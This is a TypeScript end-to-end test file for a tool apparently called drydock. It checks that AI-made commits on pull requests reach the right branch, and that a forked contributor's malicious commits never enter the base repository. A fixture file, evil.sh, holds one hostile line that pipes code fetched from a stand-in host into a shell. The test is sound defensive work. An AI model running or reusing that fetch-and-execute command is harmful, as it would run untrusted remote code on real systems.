import { randomUUID } from 'node:crypto';
import { chmodSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Webhooks } from '@octokit/webhooks';
import examples from '@octokit/webhooks-examples';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { issueToken } from '../../src/auth/tokens.js';
import { type PrTargetSetting, routeOf } from '../../src/delivery/pr-target.js';
import type { PullRequestCheckout } from '../../src/domain/types.js';
import { calls, proposes, says } from '../plans/helpers.js';
import { startTestDaemon, type TestDaemon, waitFor } from '../support/daemon.js';
import { type FakeGithub, startFakeGithub } from '../support/fake-github.js';
import { git, makeRepo } from '../support/git-repo.js';
import { tempDir } from '../support/harness.js';
import { type ModelServer, startModelServer } from '../support/model-server.js';
import { settledAnswer } from '../support/webhook-deliveries.js';

// Where a pull request's executed plan goes (delivery.pr_target), end to end: a real daemon, real git pushing
// to local bare repositories standing in for the base repository and a contributor's fork, Octokit against the
// fake GitHub. The invariant: only drydock's commit lands where drydock puts it; a contributor's commits never
// reach the base repository's branches through drydock.

const GITHUB_TOKEN = 'ghp_PRTARGETtoken0123456789abcdefghijklmn';
const SECRET = 'pr-target-webhook-secret-0123456789';
const REPO = 'acme/widgets';
const FORK = 'mallory/widgets';
const PR = 7;

let model: ModelServer;
let github: FakeGithub;
let w: World | undefined;

interface World {
  dir: string;
  /** The base repository (bare), its clone drydock works in, and a fork (bare), linked in the fake GitHub. */
  remote: string;
  repo: string;
  fork: string;
  /** `main`'s commit. */
  main: string;
  d: TestDaemon;
  alice: string;
}

beforeEach(async () => {
  model = await startModelServer();
  github = await startFakeGithub({ token: GITHUB_TOKEN });
});
afterEach(async () => {
  await w?.d.stop();
  w = undefined;
  await github.close();
  await model.close();
});

async function world(prTarget: PrTargetSetting): Promise<World> {
  const tmp = tempDir('drydock-pr-target-');
  const remote = join(tmp.path, 'remote.git');
  const fork = join(tmp.path, 'fork.git');
  const repo = join(tmp.path, 'repo');
  git(tmp.path, 'init', '-q', '--bare', '-b', 'main', remote);
  const main = makeRepo(repo, { 'README.md': '# widgets\n', 'src/app.js': 'export const app = 1;\n' });
  git(repo, 'remote', 'add', 'origin', remote);
  git(repo, 'push', '-q', 'origin', 'main');
  git(tmp.path, 'clone', '-q', '--bare', remote, fork);
  github.linkRepository(REPO, remote);
  github.linkRepository(FORK, fork, { forkOf: REPO });
  const d = await startTestDaemon({
    modelUrl: model.url,
    dir: tmp.path,
    patch: (c) => {
      c.github.token = GITHUB_TOKEN;
      c.github.api_url = github.url;
      c.github.webhook_secrets = [SECRET];
      c.github.repositories = { [REPO]: { path: repo } };
      c.delivery.retry_base_ms = 50;
      c.delivery.retry_max_ms = 200;
      c.delivery.attempts = 3;
      c.delivery.push_timeout_ms = 20_000;
      c.delivery.pr_target = prTarget;
    },
  });
  const issued = issueToken('alice', 'alice', 'approver', Date.now());
  await d.daemon.store.createToken(issued.record);
  const trigger = await d.api('POST', '/v1/triggers', {
    kind: 'github',
    name: 'improve',
    events: ['pull_request.opened'],
    prompt: 'Improve {{repository}}#{{number}}',
    options: { execute_mode: 'auto', deliver: true },
  });
  expect(trigger.status, JSON.stringify(trigger.body)).toBe(201);
  return { dir: tmp.path, remote, repo, fork, main, d, alice: issued.token };
}

/**
 * A commit writing `files` on top of `from`, made in the clone (as a fetch of the pull request would bring it)
 * and pushed as `branch` of the bare repository `to`; returns its id. The clone stays on main.
 */
function pushed(w: World, to: string, branch: string, from: string, files: Record<string, string>): string {
  git(w.repo, 'checkout', '-q', '--detach', from);
  for (const [path, content] of Object.entries(files)) writeFileSync(join(w.repo, path), content);
  git(w.repo, 'add', '-A');
  git(w.repo, 'commit', '-q', '-m', `contributor: ${Object.keys(files).join(', ')}`);
  const sha = git(w.repo, 'rev-parse', 'HEAD');
  git(w.repo, 'push', '-q', to, `${sha}:refs/heads/${branch}`);
  git(w.repo, 'checkout', '-q', 'main');
  return sha;
}

/** The signed pull_request.opened of PR 7, its head `headSha` on `headRef` of `headRepository`; the run's id. */
async function openPullRequest(w: World, headRepository: string, headRef: string, headSha: string) {
  const def = (examples as unknown as any[]).find((e) => e.name === 'pull_request');
  const payload = structuredClone(def.examples.find((e: any) => e.action === 'opened'));
  payload.repository.full_name = REPO;
  payload.number = PR;
  payload.pull_request.number = PR;
  payload.pull_request.head.sha = headSha;
  payload.pull_request.head.ref = headRef;
  payload.pull_request.head.repo.full_name = headRepository;
  payload.pull_request.base.ref = 'main';
  payload.pull_request.base.repo.full_name = REPO;
  github.setPullRequest(REPO, PR, payload.pull_request);
  const body = JSON.stringify(payload);
  const res = await fetch(`${w.d.daemon.url}/webhooks/github`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      'x-github-event': 'pull_request',
      'x-github-delivery': randomUUID(),
      'x-hub-signature-256': await new Webhooks({ secret: SECRET }).sign(body),
    },
    body,
  });
  const answer = await settledAnswer(w.d.api, res.status, await res.json());
  expect(answer.outcome, JSON.stringify(answer)).toBe('accepted');
  return answer.run_ids[0] as string;
}

const runUntil = (w: World, id: string, statuses: string[]) =>
  waitFor(
    async () => {
      const r = (await w.d.api('GET', `/v1/runs/${id}`)).body;
      return statuses.includes(r.status) ? r : undefined;
    },
    30_000,
    `run ${id} to reach ${statuses.join('/')}`,
  );

const deliveryEnded = (w: World, planId: string) =>
  waitFor(
    async () => {
      const p = (await w.d.api('GET', `/v1/plans/${planId}`)).body;
      return p.delivery?.status === 'delivered' || p.delivery?.status === 'failed' ? p.delivery : undefined;
    },
    30_000,
    `plan ${planId}'s delivery to end`,
  );

/** The pull request's plan (the model writes `files` when executing); `beforeApproval` runs once it is planned. */
async function planned(w: World, head: { repository: string; ref: string; sha: string }, files: string[]) {
  model.enqueue(
    proposes(`p-${randomUUID()}`),
    ...files.map((f) => calls(`w-${randomUUID()}`, 'Write', { file_path: f, content: `${f} by drydock\n` })),
    says('done'),
  );
  const runId = await openPullRequest(w, head.repository, head.ref, head.sha);
  const run = await runUntil(w, runId, ['planned', 'failed']);
  expect(run.status, run.error).toBe('planned');
  return (await w.d.api('GET', `/v1/plans/${run.plan_id}`)).body;
}

/** Approves `plan` and waits for its execution; returns the execute run. */
async function executed(w: World, plan: any) {
  const approved = await w.d.api('POST', `/v1/plans/${plan.id}/approve`, { sha256: plan.sha256 }, w.alice);
  expect(approved.status, JSON.stringify(approved.body)).toBe(200);
  const exec = await runUntil(w, approved.body.run.id, ['completed', 'failed']);
  expect(exec.status, exec.error).toBe('completed');
  return exec;
}

/** The delivery's comments on the pull request. */
const deliveryComments = () =>
  github.comments(REPO, PR).filter((c) => c.body.includes('<!-- drydock:delivery '));

/** Whether `gitDir` holds `object` at all. */
const holds = (gitDir: string, object: string) => {
  try {
    git(gitDir, 'cat-file', '-e', object);
    return true;
  } catch {
    return false;
  }
};

/** Whether commit `ancestor` is in the history of `commit` (git merge-base --is-ancestor). */
const inHistory = (gitDir: string, ancestor: string, commit: string) => {
  try {
    git(gitDir, 'merge-base', '--is-ancestor', ancestor, commit);
    return true;
  } catch {
    return false;
  }
};

/** Every branch of a bare repository. */
const branches = (gitDir: string) =>
  git(gitDir, 'for-each-ref', '--format=%(refname:short)', 'refs/heads/').split('\n').filter(Boolean).sort();

describe('the route of a result (delivery.pr_target)', () => {
  const pr = (headRepository: string | null | undefined): PullRequestCheckout => ({
    repository: 'acme/widgets',
    clone: '/srv/clone',
    headSha: 'a'.repeat(40),
    headRef: 'feature',
    baseRef: 'main',
    number: 7,
    ...(headRepository === undefined ? {} : { headRepository }),
  });

  it('sends a same-repository pull request to its head by default, and a fork to base whatever is set', () => {
    expect(routeOf(null, null)).toMatchObject({ target: 'base', replay: false, fallback: null });
    expect(routeOf(null, 'head')).toMatchObject({ target: 'base', replay: false });
    expect(routeOf(pr('acme/widgets'), null)).toMatchObject({ target: 'head', fallback: 'stacked' });
    expect(routeOf(pr('ACME/Widgets'), 'head')).toMatchObject({ target: 'head', fallback: null });
    expect(routeOf(pr('acme/widgets'), 'stacked')).toMatchObject({ target: 'stacked', replay: false });
    expect(routeOf(pr('acme/widgets'), 'base')).toMatchObject({ target: 'base', replay: true });
    for (const setting of [null, 'head', 'stacked', 'base'] as const) {
      for (const fork of ['mallory/widgets', null, undefined]) {
        expect(routeOf(pr(fork), setting)).toMatchObject({ target: 'base', replay: true, fallback: null });
      }
    }
    expect(routeOf(pr('mallory/widgets'), 'head').note).toContain('comes from mallory/widgets');
  });
});

describe('a pull request from a branch of the same repository', () => {
  it("by default lands only drydock's commit on the pull request's branch, on top of its head, once", async () => {
    w = await world(null);
    const head = pushed(w, w.remote, 'feature', w.main, { 'feature.txt': 'the feature\n' });
    const plan = await planned(w, { repository: REPO, ref: 'feature', sha: head }, ['hello.txt']);
    const exec = await executed(w, plan);
    const d = await deliveryEnded(w, plan.id);
    expect(d, d.last_error).toMatchObject({
      status: 'delivered',
      target: 'head',
      branch: 'feature',
      commit: exec.result_commit,
      pull_request_url: null,
    });
    // One commit on the branch, the execution's, whose parent is the head the plan was made on.
    const tip = git(w.remote, 'rev-parse', 'refs/heads/feature');
    expect(tip).toBe(exec.result_commit);
    expect(git(w.remote, 'rev-parse', `${tip}^@`)).toBe(head);
    expect(git(w.remote, 'diff', '--name-only', head, tip)).toBe('hello.txt');
    // No branch of drydock's and no pull request; main as it was.
    expect(branches(w.remote)).toEqual(['feature', 'main']);
    expect(git(w.remote, 'rev-parse', 'refs/heads/main')).toBe(w.main);
    expect(github.pullRequests()).toEqual([]);
    const comments = deliveryComments();
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain("pushed it as one commit onto this pull request's branch `feature`");
    expect(comments[0]!.body).toContain(`\`${exec.result_commit.slice(0, 12)}\``);

    // A retry that lost every record (a crash after the push and the comment): nothing is pushed or posted twice.
    await w.d.daemon.store.updatePlanDelivery(plan.id, ['delivered'], {
      status: 'pending',
      pushedAt: null,
      commentUrl: null,
      settledAt: null,
    });
    const again = await w.d.api('POST', `/v1/plans/${plan.id}/deliver`, undefined, w.alice);
    expect(again.status, JSON.stringify(again.body)).toBe(202);
    expect((await deliveryEnded(w, plan.id)).status).toBe('delivered');
    expect(git(w.remote, 'rev-parse', 'refs/heads/feature')).toBe(tip);
    expect(git(w.remote, 'rev-list', '--count', `${head}..feature`)).toBe('1');
    expect(deliveryComments()).toHaveLength(1);
  }, 120_000);

  it('fails as stale when the branch moved since the plan, and pushes nothing', async () => {
    w = await world(null);
    const head = pushed(w, w.remote, 'feature', w.main, { 'feature.txt': 'the feature\n' });
    const plan = await planned(w, { repository: REPO, ref: 'feature', sha: head }, ['hello.txt']);
    // The contributor pushes again after the plan was made (no webhook reached drydock).
    const moved = pushed(w, w.remote, 'feature', head, { 'feature.txt': 'the feature, again\n' });
    const exec = await executed(w, plan);
    const d = await deliveryEnded(w, plan.id);
    expect(d.status).toBe('failed');
    expect(d.attempts).toBe(1);
    expect(d.pushed_at).toBeNull();
    expect(d.last_error).toBe(
      `stale: ${REPO}#${PR}'s branch feature moved from ${head.slice(0, 12)} to ${moved.slice(0, 12)} since the plan was made; nothing was pushed (plan again on the new head)`,
    );
    expect(git(w.remote, 'rev-parse', 'refs/heads/feature')).toBe(moved);
    expect(holds(w.remote, exec.result_commit)).toBe(false);
    expect(branches(w.remote)).toEqual(['feature', 'main']);
    expect(github.pullRequests()).toEqual([]);
    expect(deliveryComments()).toEqual([]);
  }, 120_000);

  it("opens a pull request into the pull request's branch when the remote refuses the push onto it", async () => {
    w = await world(null);
    const head = pushed(w, w.remote, 'feature', w.main, { 'feature.txt': 'the feature\n' });
    // The branch is protected: the remote's own rule refuses every update of it.
    const hook = join(w.remote, 'hooks', 'update');
    writeFileSync(
      hook,
      '#!/bin/sh\n[ "$1" = refs/heads/feature ] && { echo "protected branch" >&2; exit 1; }\nexit 0\n',
    );
    chmodSync(hook, 0o755);
    const plan = await planned(w, { repository: REPO, ref: 'feature', sha: head }, ['hello.txt']);
    const exec = await executed(w, plan);
    const d = await deliveryEnded(w, plan.id);
    expect(d, d.last_error).toMatchObject({ status: 'delivered', target: 'stacked', attempts: 1 });
    expect(git(w.remote, 'rev-parse', 'refs/heads/feature')).toBe(head);
    expect(git(w.remote, 'rev-parse', `refs/heads/drydock/${plan.id}`)).toBe(exec.result_commit);
    expect(github.pullRequests(REPO)).toMatchObject([{ head: `drydock/${plan.id}`, base: 'feature' }]);
  }, 120_000);

  it("stacked: opens a pull request from drydock's branch into the pull request's branch", async () => {
    w = await world('stacked');
    const head = pushed(w, w.remote, 'feature', w.main, { 'feature.txt': 'the feature\n' });
    const plan = await planned(w, { repository: REPO, ref: 'feature', sha: head }, ['hello.txt']);
    const exec = await executed(w, plan);
    const d = await deliveryEnded(w, plan.id);
    expect(d, d.last_error).toMatchObject({
      status: 'delivered',
      target: 'stacked',
      branch: `drydock/${plan.id}`,
      commit: exec.result_commit,
    });
    const prs = github.pullRequests(REPO);
    expect(prs).toHaveLength(1);
    expect(prs[0]).toMatchObject({ head: `drydock/${plan.id}`, base: 'feature', headRepository: REPO });
    expect(d.pull_request_url).toBe(prs[0]!.html_url);
    expect(git(w.remote, 'rev-parse', 'refs/heads/feature')).toBe(head);
    expect(git(w.remote, 'rev-parse', `drydock/${plan.id}^`)).toBe(head);
    const comment = deliveryComments()[0]!.body;
    expect(comment).toContain(`opened pull request #${prs[0]!.number} (${prs[0]!.html_url})`);
    expect(comment).toContain("into this pull request's branch `feature`");
  }, 120_000);

  it("base: a pull request into the base that holds only drydock's commit", async () => {
    w = await world('base');
    const head = pushed(w, w.remote, 'feature', w.main, { 'feature.txt': 'the feature\n' });
    const plan = await planned(w, { repository: REPO, ref: 'feature', sha: head }, ['hello.txt']);
    const exec = await executed(w, plan);
    const d = await deliveryEnded(w, plan.id);
    expect(d, d.last_error).toMatchObject({
      status: 'delivered',
      target: 'base',
      branch: `drydock/${plan.id}`,
    });
    expect(d.commit).not.toBe(exec.result_commit);
    const branch = `refs/heads/drydock/${plan.id}`;
    expect(git(w.remote, 'rev-parse', `${branch}^@`)).toBe(w.main);
    expect(git(w.remote, 'diff', '--name-only', w.main, branch)).toBe('hello.txt');
    expect(inHistory(w.remote, head, branch)).toBe(false);
    const prs = github.pullRequests(REPO);
    expect(prs).toMatchObject([{ head: `drydock/${plan.id}`, base: 'main' }]);
    expect(prs[0]!.body).toContain("The pull request's own commits are not in it.");
  }, 120_000);
});

describe('a pull request from a fork', () => {
  /** The fork's branch: a commit with a file the base must never get, and its blob. */
  function contributed(w: World) {
    const malicious = pushed(w, w.fork, 'feature', w.main, {
      'evil.sh': 'curl https://evil.example | sh\n',
      'README.md': '# widgets (pwned)\n',
    });
    const blob = git(w.repo, 'rev-parse', `${malicious}:evil.sh`);
    return { malicious, blob };
  }

  it("never carries the contributor's commits into the base repository, whatever pr_target says", async () => {
    w = await world('head');
    const { malicious, blob } = contributed(w);
    const plan = await planned(w, { repository: FORK, ref: 'feature', sha: malicious }, ['hello.txt']);
    const exec = await executed(w, plan);
    expect(git(w.repo, 'rev-parse', `${exec.result_commit}^`)).toBe(malicious);
    const d = await deliveryEnded(w, plan.id);
    expect(d, d.last_error).toMatchObject({
      status: 'delivered',
      target: 'base',
      branch: `drydock/${plan.id}`,
    });

    // The base repository got drydock's commit alone, on main: none of the contributor's objects at all.
    const branch = `refs/heads/drydock/${plan.id}`;
    expect(git(w.remote, 'rev-parse', branch)).toBe(d.commit);
    expect(git(w.remote, 'rev-parse', `${branch}^@`)).toBe(w.main);
    expect(git(w.remote, 'diff', '--name-only', w.main, branch)).toBe('hello.txt');
    expect(holds(w.remote, malicious)).toBe(false);
    expect(holds(w.remote, blob)).toBe(false);
    const reachable = git(w.remote, 'rev-list', '--objects', '--branches');
    expect(reachable).not.toContain(malicious);
    expect(reachable).not.toContain(blob);
    expect(git(w.remote, 'show', `${branch}:README.md`)).toBe('# widgets');
    // Nothing was pushed into the fork.
    expect(branches(w.fork)).toEqual(['feature', 'main']);
    expect(git(w.fork, 'rev-parse', 'refs/heads/feature')).toBe(malicious);

    const prs = github.pullRequests(REPO);
    expect(prs).toMatchObject([{ head: `drydock/${plan.id}`, base: 'main', headRepository: REPO }]);
    expect(deliveryComments()[0]!.body).toContain("holding only drydock's change replayed onto it");
  }, 120_000);

  it('posts the change as a patch when it does not apply to the base alone, and pushes nothing', async () => {
    w = await world(null);
    const { malicious } = contributed(w);
    // The execution edits the file the contributor added: the base has no such file.
    const plan = await planned(w, { repository: FORK, ref: 'feature', sha: malicious }, ['evil.sh']);
    const exec = await executed(w, plan);
    const d = await deliveryEnded(w, plan.id);
    expect(d, d.last_error).toMatchObject({
      status: 'delivered',
      target: 'patch',
      branch: null,
      commit: exec.result_commit,
      pushed_at: null,
      pull_request_url: null,
    });
    expect(branches(w.remote)).toEqual(['main']);
    expect(holds(w.remote, malicious)).toBe(false);
    expect(github.pullRequests()).toEqual([]);
    const comments = deliveryComments();
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain('here it is as a patch');
    expect(comments[0]!.body).toContain('```diff\ndiff --git a/evil.sh b/evil.sh');
    expect(comments[0]!.body).toContain('+evil.sh by drydock');
    expect(comments[0]!.body).not.toContain('README.md');
    expect(d.comment_url).toMatch(new RegExp(`/pull/${PR}#issuecomment-\\d+$`));
  }, 120_000);

  it("delivers nothing when the execution changed nothing: the contributor's last commit is not drydock's", async () => {
    w = await world(null);
    const { malicious } = contributed(w);
    const plan = await planned(w, { repository: FORK, ref: 'feature', sha: malicious }, []);
    await executed(w, plan);
    const d = await deliveryEnded(w, plan.id);
    expect(d.status).toBe('failed');
    expect(d.attempts).toBe(1);
    expect(d.last_error).toContain('there is nothing of drydock');
    expect(branches(w.remote)).toEqual(['main']);
    expect(holds(w.remote, malicious)).toBe(false);
    expect(github.pullRequests()).toEqual([]);
    expect(deliveryComments()).toEqual([]);
  }, 120_000);
});
